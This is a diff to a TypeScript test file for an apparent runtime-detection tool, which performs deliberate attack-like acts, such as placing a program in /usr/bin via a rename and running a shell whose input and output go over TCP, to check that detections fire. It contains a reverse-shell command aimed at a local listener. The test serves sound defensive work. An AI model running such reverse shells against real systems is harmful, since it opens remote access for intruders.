@@ -1,7 +1,7 @@
 // The deeds: six that must raise a detection and harmless ones that look like them. Each does the least that shows it.
 import { execFileSync, spawn } from "node:child_process";
 import { once } from "node:events";
-import { copyFileSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { copyFileSync, mkdtempSync, renameSync, rmSync, writeFileSync } from "node:fs";
 import { createServer } from "node:net";
 import { join } from "node:path";
 
@@ -54,10 +54,14 @@ function inFolderBelow(parent: string, use: (program: string) => void): void {
   }
 }
 
-/** A program of the test's own in /usr/bin, there before `use` and gone after it. */
+/** A program of the test's own in /usr/bin, moved there before `use` (moving writes no file) and gone after it. */
 function programInUsrBin(use: (program: string) => void): void {
-  const program = `/usr/bin/nightjar-test-${process.pid}`;
+  const name = `nightjar-test-${process.pid}`;
+  const program = join("/usr/bin", name);
+  const made = join("/usr", name);
+  copyFileSync("/bin/true", made);
   try {
+    renameSync(made, program);
     use(program);
   } finally {
     rmSync(program, { force: true });
@@ -73,7 +77,7 @@ export const attacks: readonly Act[] = [
   {
     name: "a shell with its input and output on a TCP connection",
     rule: "Shell with its input and output on a network connection",
-    perform: () => bashTowardsListener("bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1"),
+    perform: () => bashTowardsListener("bash --norc -i >& /dev/tcp/127.0.0.1/PORT 0>&1"),
   },
   {
     name: "a program runs from memory",
